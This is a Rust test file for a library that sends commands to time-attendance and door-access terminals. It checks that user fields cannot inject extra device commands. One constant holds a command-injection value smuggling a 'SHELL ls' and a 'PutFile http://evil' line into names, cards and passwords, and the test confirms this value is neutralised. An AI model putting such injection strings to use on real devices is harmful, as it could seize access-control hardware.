//! O2: whatever is ordered, and whatever a machine says of itself, none of the words that could take it over leave here.

use std::borrow::Cow;
use std::collections::BTreeMap;

use rollcall_protocol::attendance::handshake::Generation;
use rollcall_protocol::order::{Means, Order, Person, Pin, Privilege, Table, Template, TemplateKind, steps};
use rollcall_protocol::text::Encoding;
use rollcall_protocol::{Dialect, WallTime, access, attendance, fk};

/// Everything a command may begin with, in the iclock dialects and in FK's.
const WORDS: &[&str] = &[
    "REBOOT",
    "CHECK",
    "LOG",
    "INFO",
    "AC_UNLOCK",
    "CLEAR LOG",
    "CLEAR DATA",
    "CLEAR ALL USERINFO",
    "DATA UPDATE ",
    "DATA DELETE ",
    "DATA QUERY ",
    "DATA COUNT ",
    "DATA USER ",
    "DATA FP ",
    "DATA DEL_USER ",
    "DATA DEL_FP ",
    "CONTROL DEVICE 01",
    "CONTROL DEVICE 03",
    "SET OPTIONS DateTime=",
    "SET OPTIONS MachineTZ=",
    "GET OPTIONS ",
    "RESET_FK",
    "SET_TIME",
    "GET_DEVICE_STATUS",
    "GET_DEVICE_INFO",
    "SET_DOOR_STATUS",
    "CLEAR_LOG_DATA",
    "CLEAR_ENROLL_DATA",
    "GET_USER_ID_LIST",
    "GET_USER_INFO",
    "SET_USER_INFO",
    "DELETE_USER",
];

/// What somebody could write into a name, a card or a password.
const NASTY: &str = "x\nC:9:SHELL ls\r\nC:10:PutFile http://evil\tUPGRADE checksum=\0";

fn pin() -> Pin {
    Pin::new("7").unwrap()
}

fn orders() -> Vec<Order> {
    let person = |inactive| Person {
        pin: pin(),
        name: NASTY.to_owned(),
        privilege: Privilege::Administrator,
        card: NASTY.to_owned(),
        password: NASTY.to_owned(),
        group: 1,
        valid: None,
        inactive,
    };
    let kinds = [
        TemplateKind::Fingerprint,
        TemplateKind::NearInfraredFace,
        TemplateKind::FingerVein,
        TemplateKind::Bio(1),
        TemplateKind::Bio(9),
        TemplateKind::Photo,
        TemplateKind::Picture,
    ];
    let template = |kind| Template {
        pin: pin(),
        kind,
        no: 6,
        index: 0,
        valid: 1,
        duress: 0,
        version: Some((10, 0)),
        format: 0,
        data: NASTY.as_bytes().to_vec(),
    };
    let mut all = vec![
        Order::Restart,
        Order::SetClock,
        Order::ReadInfo,
        Order::ReadOptions,
        Order::Ping,
        Order::UnlockDoor { door: 1, seconds: 5 },
        Order::UnlockDoor { door: 255, seconds: 254 },
        Order::ClearPunches,
        Order::ClearPeople,
        Order::ClearAll,
        Order::ReadPeople,
        Order::ReadTemplates,
        Order::ReadPerson { pin: pin() },
        Order::PutPerson(person(false)),
        Order::PutPerson(person(true)),
        Order::Authorize { pin: pin() },
        Order::Revoke { pin: pin() },
        Order::DeletePerson { pin: pin() },
    ];
    for kind in kinds {
        all.push(Order::PutTemplate(template(kind)));
        all.push(Order::DeleteTemplates { pin: pin(), of: kind });
    }
    let tables = [
        Table::People,
        Table::Authorizations,
        Table::Fingerprints,
        Table::NearInfraredFaces,
        Table::Bio(9),
        Table::Photos,
        Table::Punches,
    ];
    for table in tables {
        all.push(Order::ClearTable(table));
        all.push(Order::ReadTable(table));
    }
    all
}

fn means() -> Vec<Means<'static>> {
    let said = [
        "",
        "MultiBioDataSupport=0:1:1:0:0:0:1:1:1:1:1,MultiBioPhotoSupport=0:0:0:0:0:0:0:0:0:1,UserValidTimeFun=1,\
         StringPinFunOn=1,FingerFunOn=1,FaceFunOn=1,VisilightFun=1,LockCount=255,DisableUserFunOn=1,FPVersion=10,\
         fk_bin_data_lib=FKDataHS102",
    ];
    let mut all = Vec::new();
    for options in said {
        let options: BTreeMap<String, String> = options
            .split(',')
            .filter_map(|pair| pair.split_once('='))
            .map(|(key, value)| (key.trim().to_owned(), value.to_owned()))
            .collect();
        for dialect in [Dialect::Attendance, Dialect::Access, Dialect::Fk] {
            for generation in [Generation::V1, Generation::V2_0, Generation::Modern] {
                for (old_user_form, encoding) in [(false, Encoding::Utf8), (true, Encoding::Gb18030)] {
                    all.push(Means {
                        dialect,
                        generation,
                        encoding,
                        old_user_form,
                        options: Cow::Owned(options.clone()),
                        now: WallTime::parse(b"2026-07-06 09:30:00").unwrap(),
                        utc_offset: 8 * 3600,
                    });
                }
            }
        }
    }
    all
}

fn allowed(command: &str) -> bool {
    WORDS.iter().any(|words| match words.strip_suffix(' ') {
        Some(_) => command.starts_with(words),
        None if words.ends_with('=') || words.ends_with("01") || words.ends_with("03") => {
            command.starts_with(words)
        }
        None => command == *words,
    })
}

#[test]
fn o2_no_order_in_any_dialect_can_take_a_machine_over() {
    let (mut sent, mut kinds) = (0, std::collections::BTreeSet::new());
    for means in means() {
        for order in orders() {
            let Ok(steps) = steps(&order, &means) else { continue };
            for step in steps {
                let command = match means.dialect {
                    Dialect::Attendance => attendance::orders::body(&step, &means).ok(),
                    Dialect::Access => access::orders::body(&step, &means).ok(),
                    Dialect::Fk => {
                        if let Ok(command) = fk::orders::command(&step, &means) {
                            assert!(allowed(command.cmd_code), "{}", command.cmd_code);
                            (sent, _) = (sent + 1, kinds.insert(order.kind()));
                        }
                        None
                    }
                };
                let Some(body) = command else { continue };
                let line = attendance::command::Command { id: 1, body };
                let mut bytes = Vec::new();
                attendance::command::write_commands(&[line], means.encoding, &mut bytes);
                let text = String::from_utf8_lossy(&bytes);
                let command = text.strip_prefix("C:1:").and_then(|rest| rest.strip_suffix('\n')).unwrap();
                assert!(!command.contains(['\n', '\r', '\0']), "one command stays one: {command:?}");
                assert!(allowed(command), "{:?} of {:?}: {command:?}", order.kind(), means.dialect);
                (sent, _) = (sent + 1, kinds.insert(order.kind()));
            }
        }
    }
    assert!(sent > 500, "{sent}");
    assert!(kinds.len() > 16, "{kinds:?}");
}
